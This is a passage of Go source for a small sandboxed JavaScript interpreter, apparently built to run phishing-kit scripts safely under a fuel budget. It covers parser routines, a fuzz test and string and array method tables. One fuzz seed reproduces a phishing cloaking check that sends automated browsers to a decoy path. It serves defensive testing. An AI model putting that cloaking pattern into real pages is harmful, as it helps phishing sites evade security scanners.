	return p.cur().kind == tokKeyword && p.cur().text == text
}

func (p *parser) eatPunct(text string) bool {
	if p.atPunct(text) {
		p.pos++
		return true
	}
	return false
}

func (p *parser) eatKeyword(text string) bool {
	if p.atKeyword(text) {
		p.pos++
		return true
	}
	return false
}

func (p *parser) expectPunct(text string) error {
	if !p.eatPunct(text) {
		return &SyntaxError{Line: p.cur().line, Msg: fmt.Sprintf("expected %q, found %q", text, p.cur().text)}
	}
	return nil
}

func (p *parser) expectIdent() (string, error) {
	if p.cur().kind != tokIdent {
		return "", &SyntaxError{Line: p.cur().line, Msg: fmt.Sprintf("expected identifier, found %q", p.cur().text)}
	}
	return p.next().text, nil
}

// eatSemi consumes an optional statement-terminating semicolon.
func (p *parser) eatSemi() {
	p.eatPunct(";")
}

func (p *parser) statement() (stmt, error) {
	t := p.cur()
	switch {
	case p.atPunct(";"):
		p.pos++
		return &emptyStmt{}, nil
	case p.atPunct("{"):
		return p.block()
	case t.kind == tokKeyword:
		switch t.text {
		case "var", "let", "const":
			return p.varStatement()
		case "function":
			p.pos++
			name, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			fn, err := p.funcRest(false)
			if err != nil {
				return nil, err
			}
			return &funcDeclStmt{Name: name, Fn: fn}, nil
		case "if":
			return p.ifStatement()
		case "while":
			return p.whileStatement()
		case "do":
			return p.doWhileStatement()
		case "for":
			return p.forStatement()
		case "return":
			p.pos++
			var val expr
			if !p.atPunct(";") && !p.atPunct("}") && !p.at(tokEOF) {
				var err error
				val, err = p.expression()
				if err != nil {
					return nil, err
				}
			}
			p.eatSemi()
			return &returnStmt{Value: val}, nil
		case "break":
			p.pos++
			p.eatSemi()
			return &breakStmt{}, nil
		case "continue":
			p.pos++
			p.eatSemi()
			return &continueStmt{}, nil
		case "try":
			return p.tryStatement()
		case "throw":
			p.pos++
			val, err := p.expression()
			if err != nil {
				return nil, err
			}
			p.eatSemi()
			return &throwStmt{Value: val}, nil
		case "debugger":
			line := p.next().line
			p.eatSemi()
			return &debuggerStmt{Line: line}, nil
		case "switch":
			return p.switchStatement()
		}
	}
	e, err := p.expression()
	if err != nil {
		return nil, err
	}
	p.eatSemi()
	return &exprStmt{E: e}, nil
}

func (p *parser) block() (*blockStmt, error) {
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	var stmts []stmt
	for !p.atPunct("}") && !p.at(tokEOF) {
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		stmts = append(stmts, s)
	}
	if err := p.expectPunct("}"); err != nil {
		return nil, err
	}
	return &blockStmt{Stmts: stmts}, nil
}

func (p *parser) varStatement() (stmt, error) {
	kind := p.next().text
	line := p.cur().line
	out := &varStmt{Kind: kind, Line: line}
	for {
		name, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		out.Names = append(out.Names, name)
		if p.eatPunct("=") {
			init, err := p.assignment()
			if err != nil {
				return nil, err
			}
			out.Inits = append(out.Inits, init)
		} else {
			out.Inits = append(out.Inits, nil)
		}
		if !p.eatPunct(",") {
			break
		}
	}
	p.eatSemi()
	return out, nil
}

func (p *parser) ifStatement() (stmt, error) {
	p.pos++ // if
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	then, err := p.statement()
	if err != nil {
		return nil, err
	}
	var els stmt
	if p.eatKeyword("else") {
		els, err = p.statement()
		if err != nil {
			return nil, err
		}
	}
	return &ifStmt{Cond: cond, Then: then, Else: els}, nil
}

func (p *parser) whileStatement() (stmt, error) {
	p.pos++ // while
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.statement()
	if err != nil {
		return nil, err
	}
	return &whileStmt{Cond: cond, Body: body}, nil
}

func (p *parser) doWhileStatement() (stmt, error) {
	p.pos++ // do
	body, err := p.statement()
	if err != nil {
		return nil, err
	}
	if !p.eatKeyword("while") {
		return nil, &SyntaxError{Line: p.cur().line, Msg: "expected 'while' after do body"}
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	p.eatSemi()
	return &doWhileStmt{Cond: cond, Body: body}, nil
}

func (p *parser) forStatement() (stmt, error) {
	p.pos++ // for
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	// Possible for-in / for-of.
	save := p.pos
	decl := ""
	if p.atKeyword("var") || p.atKeyword("let") || p.atKeyword("const") {
		decl = p.next().text
	}
	if p.cur().kind == tokIdent {
		name := p.cur().text
		if p.toks[p.pos+1].kind == tokKeyword &&
			(p.toks[p.pos+1].text == "in" || p.toks[p.pos+1].text == "of") {
			p.pos += 2
			of := p.toks[p.pos-1].text == "of"
			obj, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			body, err := p.statement()
			if err != nil {
				return nil, err
			}
			return &forInStmt{Decl: decl, Name: name, Of: of, Obj: obj, Body: body}, nil
		}
	}
	p.pos = save
	// Classic for.
	var initStmt stmt
	if !p.atPunct(";") {
		if p.atKeyword("var") || p.atKeyword("let") || p.atKeyword("const") {
			s, err := p.varStatement() // consumes its semicolon
			if err != nil {
				return nil, err
			}
			initStmt = s
		} else {
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			initStmt = &exprStmt{E: e}
			p.eatSemi()
		}
	} else {
		p.pos++
	}
	var cond expr
	if !p.atPunct(";") {
		var err error
		cond, err = p.expression()
		if err != nil {
			return nil, err
		}
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	var post expr
	if !p.atPunct(")") {
		var err error
		post, err = p.expression()
		if err != nil {
			return nil, err
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.statement()
	if err != nil {
		return nil, err
	}
	return &forStmt{Init: initStmt, Cond: cond, Post: post, Body: body}, nil
}

func (p *parser) tryStatement() (stmt, error) {
	p.pos++ // try
	block, err := p.block()
	if err != nil {
		return nil, err
	}
	out := &tryStmt{Block: block}
	if p.eatKeyword("catch") {
		if p.eatPunct("(") {
			name, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			out.CatchName = name
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
		}
		out.Catch, err = p.block()
		if err != nil {
			return nil, err
		}
	}
	if p.eatKeyword("finally") {
		out.Finally, err = p.block()
		if err != nil {
			return nil, err
		}
	}
	if out.Catch == nil && out.Finally == nil {
		return nil, &SyntaxError{Line: p.cur().line, Msg: "try without catch or finally"}
	}
	return out, nil
}

func (p *parser) switchStatement() (stmt, error) {
	p.pos++ // switch
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	subject, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	out := &switchStmt{Subject: subject}
	for !p.atPunct("}") && !p.at(tokEOF) {
		var test expr
		switch {
		case p.eatKeyword("case"):
			test, err = p.expression()
			if err != nil {
				return nil, err
			}
		case p.eatKeyword("default"):
			test = nil
		default:
			return nil, &SyntaxError{Line: p.cur().line, Msg: "expected case or default"}
		}
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		var body []stmt
		for !p.atPunct("}") && !p.atKeyword("case") && !p.atKeyword("default") && !p.at(tokEOF) {
			s, err := p.statement()
			if err != nil {
				return nil, err
			}
			body = append(body, s)
		}
		out.Cases = append(out.Cases, switchCase{Test: test, Body: body})
	}
	if err := p.expectPunct("}"); err != nil {
		return nil, err
	}
	return out, nil
}

// funcRest parses "(params) { body }" after the function keyword and name.
func (p *parser) funcRest(arrow bool) (*funcLit, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var params []string
	for !p.atPunct(")") {
		name, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		params = append(params, name)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.block()
	if err != nil {
		return nil, err
	}
	return &funcLit{Params: params, Body: body, Arrow: arrow}, nil
}

// Expression parsing: precedence climbing.

func (p *parser) expression() (expr, error) {
	first, err := p.assignment()
	if err != nil {
		return nil, err
	}
	if !p.atPunct(",") {
		return first, nil
	}
	exprs := []expr{first}
	for p.eatPunct(",") {
		e, err := p.assignment()
		if err != nil {
			return nil, err
		}
		exprs = append(exprs, e)
	}
	return &seqExpr{Exprs: exprs}, nil
}

func (p *parser) assignment() (expr, error) {
	// Arrow function lookahead: ident => or (params) =>.
	if e, ok, err := p.tryArrow(); err != nil {
		return nil, err
	} else if ok {
		return e, nil
	}
	left, err := p.conditional()
	if err != nil {
		return nil, err
	}
	for _, op := range []string{"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^="} {
		if p.atPunct(op) {
			p.pos++
			right, err := p.assignment()
			if err != nil {
				return nil, err
			}
			switch left.(type) {
			case *identExpr, *memberExpr:
				return &assignExpr{Op: op, Target: left, Value: right}, nil
			default:
				return nil, &SyntaxError{Line: p.cur().line, Msg: "invalid assignment target"}
			}
		}
	}
	return left, nil
}

// tryArrow attempts to parse an arrow function at the current position.
func (p *parser) tryArrow() (expr, bool, error) {
	save := p.pos
	// ident => expr|block
	if p.cur().kind == tokIdent && p.toks[p.pos+1].kind == tokPunct && p.toks[p.pos+1].text == "=>" {
		param := p.next().text
		p.pos++ // =>
		body, err := p.arrowBody()
		if err != nil {
			return nil, false, err
		}
		return &funcLit{Params: []string{param}, Body: body, Arrow: true}, true, nil
	}
	// (a, b) => ...
	if p.atPunct("(") {
		depth := 0
		i := p.pos
		for i < len(p.toks) {
			t := p.toks[i]
			if t.kind == tokPunct {
				switch t.text {
				case "(":
					depth++
				case ")":
					depth--
					if depth == 0 {
						goto closed
					}
				}
			}
			if t.kind == tokEOF {
				break
			}
			i++
		}
		return nil, false, nil
	closed:
		if i+1 < len(p.toks) && p.toks[i+1].kind == tokPunct && p.toks[i+1].text == "=>" {
			p.pos++ // (
			var params []string
			for !p.atPunct(")") {
				name, err := p.expectIdent()
				if err != nil {
					p.pos = save
					return nil, false, nil
				}
				params = append(params, name)
				if !p.eatPunct(",") {
					break
				}
			}
			if err := p.expectPunct(")"); err != nil {
				p.pos = save
				return nil, false, nil
			}
			if !p.eatPunct("=>") {
				p.pos = save
				return nil, false, nil
			}
			body, err := p.arrowBody()
			if err != nil {
				return nil, false, err
			}
			return &funcLit{Params: params, Body: body, Arrow: true}, true, nil
		}
	}
	return nil, false, nil
}

func (p *parser) arrowBody() (*blockStmt, error) {
	if p.atPunct("{") {
		return p.block()
	}
	e, err := p.assignment()
	if err != nil {
		return nil, err
	}
	return &blockStmt{Stmts: []stmt{&returnStmt{Value: e}}}, nil
}

func (p *parser) conditional() (expr, error) {
	cond, err := p.logicalOr()
	if err != nil {
		return nil, err
	}
	if !p.eatPunct("?") {
		return cond, nil
	}
	then, err := p.assignment()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	els, err := p.assignment()
	if err != nil {
		return nil, err
	}
	return &condExpr{Cond: cond, Then: then, Else: els}, nil
}

func (p *parser) logicalOr() (expr, error) {
	left, err := p.logicalAnd()
	if err != nil {
		return nil, err
	}
	for p.atPunct("||") || p.atPunct("??") {
		op := p.next().text
		right, err := p.logicalAnd()
		if err != nil {
			return nil, err
		}
		left = &logicalExpr{Op: op, Left: left, Right: right}
	}
	return left, nil
}

func (p *parser) logicalAnd() (expr, error) {
	left, err := p.bitwiseOr()
	if err != nil {
		return nil, err
	}
	for p.atPunct("&&") {
		p.pos++
		right, err := p.bitwiseOr()
		if err != nil {
			return nil, err
		}
		left = &logicalExpr{Op: "&&", Left: left, Right: right}
	}
	return left, nil
}

func (p *parser) bitwiseOr() (expr, error)  { return p.binaryLevel([]string{"|"}, p.bitwiseXor) }
func (p *parser) bitwiseXor() (expr, error) { return p.binaryLevel([]string{"^"}, p.bitwiseAnd) }
func (p *parser) bitwiseAnd() (expr, error) { return p.binaryLevel([]string{"&"}, p.equality) }

func (p *parser) equality() (expr, error) {
	return p.binaryLevel([]string{"===", "!==", "==", "!="}, p.relational)
}

func (p *parser) relational() (expr, error) {
	left, err := p.binaryLevel([]string{"<", ">", "<=", ">="}, p.shift)
	if err != nil {
		return nil, err
	}
	for p.atKeyword("instanceof") || p.atKeyword("in") {
		op := p.next().text
		right, err := p.shift()
		if err != nil {
			return nil, err
		}
		left = &binaryExpr{Op: op, Left: left, Right: right}
	}
	return left, nil
}

func (p *parser) shift() (expr, error) {
	return p.binaryLevel([]string{"<<", ">>", ">>>"}, p.additive)
}

func (p *parser) additive() (expr, error) {
	return p.binaryLevel([]string{"+", "-"}, p.multiplicative)
}

func (p *parser) multiplicative() (expr, error) {
	return p.binaryLevel([]string{"*", "/", "%"}, p.unary)
}

func (p *parser) binaryLevel(ops []string, next func() (expr, error)) (expr, error) {
	left, err := next()
	if err != nil {
		return nil, err
	}
	for {
		matched := false
		for _, op := range ops {
			if p.atPunct(op) {
				p.pos++
				right, err := next()
				if err != nil {
					return nil, err
				}
				left = &binaryExpr{Op: op, Left: left, Right: right}
				matched = true
				break
			}
		}
		if !matched {
			return left, nil
		}
	}
}

func (p *parser) unary() (expr, error) {
	switch {
	case p.atPunct("!") || p.atPunct("-") || p.atPunct("+") || p.atPunct("~"):
		op := p.next().text
		operand, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &unaryExpr{Op: op, Operand: operand}, nil
	case p.atKeyword("typeof") || p.atKeyword("void") || p.atKeyword("delete"):
		op := p.next().text
		operand, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &unaryExpr{Op: op, Operand: operand}, nil
	case p.atPunct("++") || p.atPunct("--"):
		op := p.next().text
		operand, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &updateExpr{Op: op, Prefix: true, Operand: operand}, nil
	}
	return p.postfix()
}

func (p *parser) postfix() (expr, error) {
	e, err := p.callMember()
	if err != nil {
		return nil, err
	}
	if p.atPunct("++") || p.atPunct("--") {
		op := p.next().text
		return &updateExpr{Op: op, Prefix: false, Operand: e}, nil
	}
	return e, nil
}

func (p *parser) callMember() (expr, error) {
	var e expr
	var err error
	if p.atKeyword("new") {
		p.pos++
		callee, err := p.callMemberNoCall()
		if err != nil {
			return nil, err
		}
		var args []expr
		if p.atPunct("(") {
			args, err = p.argList()
			if err != nil {
				return nil, err
			}
		}
		e = &newExpr{Callee: callee, Args: args}
	} else {
		e, err = p.primary()
		if err != nil {
			return nil, err
		}
	}
	return p.memberTail(e)
}

// callMemberNoCall parses a member chain without consuming a trailing call,
// for `new Foo.Bar(...)`.
func (p *parser) callMemberNoCall() (expr, error) {
	e, err := p.primary()
	if err != nil {
		return nil, err
	}
	for {
		switch {
		case p.atPunct("."):
			p.pos++
			name, err := p.memberName()
			if err != nil {
				return nil, err
			}
			e = &memberExpr{Obj: e, Prop: &stringLit{Value: name}}
		case p.atPunct("["):
			p.pos++
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			e = &memberExpr{Obj: e, Prop: idx, Computed: true}
		default:
			return e, nil
		}
	}
}

func (p *parser) memberTail(e expr) (expr, error) {
	for {
		switch {
		case p.atPunct("."):
			p.pos++
			name, err := p.memberName()
			if err != nil {
				return nil, err
			}
			e = &memberExpr{Obj: e, Prop: &stringLit{Value: name}}
		case p.atPunct("["):
			p.pos++
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			e = &memberExpr{Obj: e, Prop: idx, Computed: true}
		case p.atPunct("("):
			line := p.cur().line
			args, err := p.argList()
			if err != nil {
				return nil, err
			}
			e = &callExpr{Callee: e, Args: args, Line: line}
		default:
			return e, nil
		}
	}
}

// memberName accepts identifiers and keywords as property names (e.g.
// window.new is invalid JS but obj.in/obj.delete occur in minified code).
func (p *parser) memberName() (string, error) {
	t := p.cur()
	if t.kind == tokIdent || t.kind == tokKeyword {
		p.pos++
		return t.text, nil
	}
	return "", &SyntaxError{Line: t.line, Msg: fmt.Sprintf("expected property name, found %q", t.text)}
}

func (p *parser) argList() ([]expr, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var args []expr
	for !p.atPunct(")") {
		a, err := p.assignment()
		if err != nil {
			return nil, err
		}
		args = append(args, a)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return args, nil
}

func (p *parser) primary() (expr, error) {
	t := p.cur()
	switch t.kind {
	case tokNumber:
		p.pos++
		return &numberLit{Value: t.num}, nil
	case tokString:
		p.pos++
		return &stringLit{Value: t.text}, nil
	case tokIdent:
		p.pos++
		return &identExpr{Name: t.text, Line: t.line}, nil
	case tokKeyword:
		switch t.text {
		case "true", "false":
			p.pos++
			return &boolLit{Value: t.text == "true"}, nil
		case "null":
			p.pos++
			return &nullLit{}, nil
		case "undefined":
			p.pos++
			return &undefLit{}, nil
		case "this":
			p.pos++
			return &thisExpr{}, nil
		case "function":
			p.pos++
			// Optional name (ignored; named function expressions are rare
			// in the cloaking corpus).
			if p.cur().kind == tokIdent {
				p.pos++
			}
			return p.funcRest(false)
		case "new":
			return p.callMember()
		}
	case tokPunct:
		switch t.text {
		case "(":
			p.pos++
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return e, nil
		case "[":
			p.pos++
			var elems []expr
			for !p.atPunct("]") {
				e, err := p.assignment()
				if err != nil {
					return nil, err
				}
				elems = append(elems, e)
				if !p.eatPunct(",") {
					break
				}
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			return &arrayLit{Elems: elems}, nil
		case "{":
			p.pos++
			obj := &objectLit{}
			for !p.atPunct("}") {
				var key string
				kt := p.cur()
				switch kt.kind {
				case tokIdent, tokKeyword, tokString:
					key = kt.text
					p.pos++
				case tokNumber:
					key = trimFloat(kt.num)
					p.pos++
				default:
					return nil, &SyntaxError{Line: kt.line, Msg: "expected property key"}
				}
				if err := p.expectPunct(":"); err != nil {
					return nil, err
				}
				val, err := p.assignment()
				if err != nil {
					return nil, err
				}
				obj.Keys = append(obj.Keys, key)
				obj.Values = append(obj.Values, val)
				if !p.eatPunct(",") {
					break
				}
			}
			if err := p.expectPunct("}"); err != nil {
				return nil, err
			}
			return obj, nil
		}
	}
	return nil, &SyntaxError{Line: t.line, Msg: fmt.Sprintf("unexpected token %q", t.text)}
}
