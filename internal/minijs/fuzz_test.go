package minijs

import "testing"

// FuzzMiniJS feeds the interpreter arbitrary source under a small fuel
// budget. The contract: parse errors and runtime errors are returned, never
// panicked, and the fuel bound guarantees termination — exactly what the
// browser relies on when running hostile phishing-kit scripts. The seeds
// cover the constructs kits actually use: eval-free obfuscation, busy
// loops, exceptions, and the cloaking-style conditional redirect.
func FuzzMiniJS(f *testing.F) {
	f.Add(`var x = 1 + 2 * 3; x`)
	f.Add(`function f(n) { return n < 2 ? 1 : f(n-1) + f(n-2); } f(10)`)
	f.Add(`var s = ""; for (var i = 0; i < 10; i++) { s += String.fromCharCode(104 + i); } s`)
	f.Add(`while (true) {}`)
	f.Add(`try { null.x } catch (e) { "caught" }`)
	f.Add(`if (navigator && navigator.webdriver) { location.href = "/bot"; }`)
	f.Add(`throw "boom"`)
	f.Add(`var o = {a: [1,2,3]}; o.a[1]`)
	f.Add(`}{ not javascript ((`)
	f.Add(``)
	// Regression: truncated constructs whose productions consume EOF and
	// read again — cur/next must keep returning EOF, not run off the
	// token slice.
	f.Add(`do { x = 1 } while`)
	f.Add(`x =>`)
	f.Add(`switch (a) { case`)
	f.Fuzz(func(t *testing.T, src string) {
		ip := New(50_000)
		_, _ = ip.Eval(src)
		if ip.Fuel() > 50_000 {
			t.Fatalf("fuel grew during evaluation: %d", ip.Fuel())
		}
	})
}
