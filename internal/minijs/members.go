package minijs

import (
	"math"
	"strconv"
	"strings"
)

// getMember implements property reads on every value kind, including the
// string and array method tables.
func (ip *Interp) getMember(objVal Value, prop string) (Value, error) {
	switch objVal.kind {
	case KindString:
		return ip.stringMember(objVal.str, prop)
	case KindObject:
		o := objVal.obj
		if o.Class == ClassArray {
			if idx, ok := arrayIndex(prop); ok {
				if idx >= 0 && idx < len(o.Elems) {
					return o.Elems[idx], nil
				}
				return Undefined, nil
			}
			if v, err, ok := ip.arrayMember(o, prop); ok {
				return v, err
			}
		}
		return o.Get(prop), nil
	case KindNumber:
		if prop == "toFixed" {
			n := objVal.num
			return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
				digits := 0
				if len(args) > 0 {
					digits = int(args[0].ToNumber())
				}
				return String(strconv.FormatFloat(n, 'f', digits, 64)), nil
			}), nil
		}
		if prop == "toString" {
			n := objVal.num
			return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
				base := 10
				if len(args) > 0 {
					base = int(args[0].ToNumber())
				}
				if base < 2 || base > 36 {
					base = 10
				}
				return String(strconv.FormatInt(int64(n), base)), nil
			}), nil
		}
		return Undefined, nil
	case KindUndefined, 0:
		return Undefined, &throwSignal{value: errorValue("TypeError",
			"cannot read properties of undefined (reading '"+prop+"')")}
	case KindNull:
		return Undefined, &throwSignal{value: errorValue("TypeError",
			"cannot read properties of null (reading '"+prop+"')")}
	default:
		return Undefined, nil
	}
}

// setMember implements property writes.
func (ip *Interp) setMember(objVal Value, prop string, val Value) error {
	if objVal.kind != KindObject {
		if objVal.IsNullish() {
			return &throwSignal{value: errorValue("TypeError",
				"cannot set properties of "+objVal.ToString())}
		}
		return nil // writes to primitives are silently dropped
	}
	o := objVal.obj
	if o.Class == ClassArray {
		if idx, ok := arrayIndex(prop); ok {
			for len(o.Elems) <= idx {
				o.Elems = append(o.Elems, Undefined)
			}
			o.Elems[idx] = val
			return nil
		}
		if prop == "length" {
			n := int(val.ToNumber())
			switch {
			case n < len(o.Elems):
				o.Elems = o.Elems[:n]
			default:
				for len(o.Elems) < n {
					o.Elems = append(o.Elems, Undefined)
				}
			}
			return nil
		}
	}
	o.Set(prop, val)
	return nil
}

func arrayIndex(prop string) (int, bool) {
	if prop == "" {
		return 0, false
	}
	for _, r := range prop {
		if r < '0' || r > '9' {
			return 0, false
		}
	}
	n, err := strconv.Atoi(prop)
	if err != nil {
		return 0, false
	}
	return n, true
}

// stringMember implements the string method table.
func (ip *Interp) stringMember(s, prop string) (Value, error) {
	if idx, ok := arrayIndex(prop); ok {
		if idx < len(s) {
			return String(string(s[idx])), nil
		}
		return Undefined, nil
	}
	switch prop {
	case "length":
		return Number(float64(len(s))), nil
	case "indexOf":
		return strFn(func(args []Value) Value {
			if len(args) == 0 {
				return Number(-1)
			}
			return Number(float64(strings.Index(s, args[0].ToString())))
		}), nil
	case "lastIndexOf":
		return strFn(func(args []Value) Value {
			if len(args) == 0 {
				return Number(-1)
			}
			return Number(float64(strings.LastIndex(s, args[0].ToString())))
		}), nil
	case "includes":
		return strFn(func(args []Value) Value {
			return Bool(len(args) > 0 && strings.Contains(s, args[0].ToString()))
		}), nil
	case "startsWith":
		return strFn(func(args []Value) Value {
			return Bool(len(args) > 0 && strings.HasPrefix(s, args[0].ToString()))
		}), nil
	case "endsWith":
		return strFn(func(args []Value) Value {
			return Bool(len(args) > 0 && strings.HasSuffix(s, args[0].ToString()))
		}), nil
	case "slice", "substring":
		return strFn(func(args []Value) Value {
			start, end := sliceRange(len(s), args, prop == "slice")
			if start >= end {
				return String("")
			}
			return String(s[start:end])
		}), nil
	case "substr":
		return strFn(func(args []Value) Value {
			start := 0
			if len(args) > 0 {
				start = int(args[0].ToNumber())
				if start < 0 {
					start = max(0, len(s)+start)
				}
			}
			if start >= len(s) {
				return String("")
			}
			length := len(s) - start
			if len(args) > 1 {
				length = int(args[1].ToNumber())
			}
			end := min(len(s), start+max(0, length))
			return String(s[start:end])
		}), nil
	case "charAt":
		return strFn(func(args []Value) Value {
			i := 0
			if len(args) > 0 {
				i = int(args[0].ToNumber())
			}
			if i < 0 || i >= len(s) {
				return String("")
			}
			return String(string(s[i]))
		}), nil
	case "charCodeAt":
		return strFn(func(args []Value) Value {
			i := 0
			if len(args) > 0 {
				i = int(args[0].ToNumber())
			}
			if i < 0 || i >= len(s) {
				return Number(math.NaN())
			}
			return Number(float64(s[i]))
		}), nil
	case "toLowerCase":
		return strFn(func([]Value) Value { return String(strings.ToLower(s)) }), nil
	case "toUpperCase":
		return strFn(func([]Value) Value { return String(strings.ToUpper(s)) }), nil
	case "trim":
		return strFn(func([]Value) Value { return String(strings.TrimSpace(s)) }), nil
	case "split":
		return strFn(func(args []Value) Value {
			if len(args) == 0 {
				return ObjectValue(NewArray(String(s)))
			}
			parts := strings.Split(s, args[0].ToString())
			arr := NewArray()
			for _, p := range parts {
				arr.Elems = append(arr.Elems, String(p))
			}
			return ObjectValue(arr)
		}), nil
	case "replace":
		return strFn(func(args []Value) Value {
			if len(args) < 2 {
				return String(s)
			}
			return String(strings.Replace(s, args[0].ToString(), args[1].ToString(), 1))
		}), nil
	case "replaceAll":
		return strFn(func(args []Value) Value {
			if len(args) < 2 {
				return String(s)
			}
			return String(strings.ReplaceAll(s, args[0].ToString(), args[1].ToString()))
		}), nil
	case "concat":
		return strFn(func(args []Value) Value {
			out := s
			for _, a := range args {
				out += a.ToString()
			}
			return String(out)
		}), nil
	case "repeat":
		return strFn(func(args []Value) Value {
			n := 0
			if len(args) > 0 {
				n = int(args[0].ToNumber())
			}
			if n < 0 || n > 1<<16 {
				n = 0
			}
			return String(strings.Repeat(s, n))
		}), nil
	case "padStart":
		return strFn(func(args []Value) Value {
			if len(args) == 0 {
				return String(s)
			}
			width := int(args[0].ToNumber())
			pad := " "
			if len(args) > 1 {
				pad = args[1].ToString()
			}
			out := s
			for len(out) < width && pad != "" {
				out = pad + out
			}
			if len(out) > width && len(out)-len(s) > 0 {
				out = out[len(out)-width:]
			}
			return String(out)
		}), nil
	case "toString", "valueOf":
		return strFn(func([]Value) Value { return String(s) }), nil
	default:
		return Undefined, nil
	}
}

// strFn wraps a pure string helper as a host function.
func strFn(fn func(args []Value) Value) Value {
	return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		return fn(args), nil
	})
}

// sliceRange resolves (start, end) arguments against a length; sliceMode
// handles negative indices like String.prototype.slice.
func sliceRange(n int, args []Value, sliceMode bool) (int, int) {
	start, end := 0, n
	if len(args) > 0 && !args[0].IsUndefined() {
		start = int(args[0].ToNumber())
	}
	if len(args) > 1 && !args[1].IsUndefined() {
		end = int(args[1].ToNumber())
	}
	norm := func(i int) int {
		if i < 0 {
			if sliceMode {
				i += n
			} else {
				i = 0
			}
		}
		if i < 0 {
			i = 0
		}
		if i > n {
			i = n
		}
		return i
	}
	start, end = norm(start), norm(end)
	if !sliceMode && start > end {
		start, end = end, start
	}
	return start, end
}

// arrayMember implements the array method table. The third return reports
// whether the property was an array method.
func (ip *Interp) arrayMember(o *Object, prop string) (Value, error, bool) {
	switch prop {
	case "push":
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			o.Elems = append(o.Elems, args...)
			return Number(float64(len(o.Elems))), nil
		}), nil, true
	case "pop":
		return NewHostFunc(func(_ *Interp, _ Value, _ []Value) (Value, error) {
			if len(o.Elems) == 0 {
				return Undefined, nil
			}
			last := o.Elems[len(o.Elems)-1]
			o.Elems = o.Elems[:len(o.Elems)-1]
			return last, nil
		}), nil, true
	case "shift":
		return NewHostFunc(func(_ *Interp, _ Value, _ []Value) (Value, error) {
			if len(o.Elems) == 0 {
				return Undefined, nil
			}
			first := o.Elems[0]
			o.Elems = o.Elems[1:]
			return first, nil
		}), nil, true
	case "join":
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			sep := ","
			if len(args) > 0 {
				sep = args[0].ToString()
			}
			parts := make([]string, len(o.Elems))
			for i, e := range o.Elems {
				if !e.IsNullish() {
					parts[i] = e.ToString()
				}
			}
			return String(strings.Join(parts, sep)), nil
		}), nil, true
	case "indexOf":
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return Number(-1), nil
			}
			for i, e := range o.Elems {
				if StrictEquals(e, args[0]) {
					return Number(float64(i)), nil
				}
			}
			return Number(-1), nil
		}), nil, true
	case "includes":
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			if len(args) == 0 {
				return False, nil
			}
			for _, e := range o.Elems {
				if StrictEquals(e, args[0]) {
					return True, nil
				}
			}
			return False, nil
		}), nil, true
	case "slice":
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			start, end := sliceRange(len(o.Elems), args, true)
			out := NewArray()
			if start < end {
				out.Elems = append(out.Elems, o.Elems[start:end]...)
			}
			return ObjectValue(out), nil
		}), nil, true
	case "concat":
		return NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
			out := NewArray(o.Elems...)
			for _, a := range args {
				if a.kind == KindObject && a.obj.Class == ClassArray {
					out.Elems = append(out.Elems, a.obj.Elems...)
				} else {
					out.Elems = append(out.Elems, a)
				}
			}
			return ObjectValue(out), nil
		}), nil, true
	case "reverse":
		return NewHostFunc(func(_ *Interp, _ Value, _ []Value) (Value, error) {
			for i, j := 0, len(o.Elems)-1; i < j; i, j = i+1, j-1 {
				o.Elems[i], o.Elems[j] = o.Elems[j], o.Elems[i]
			}
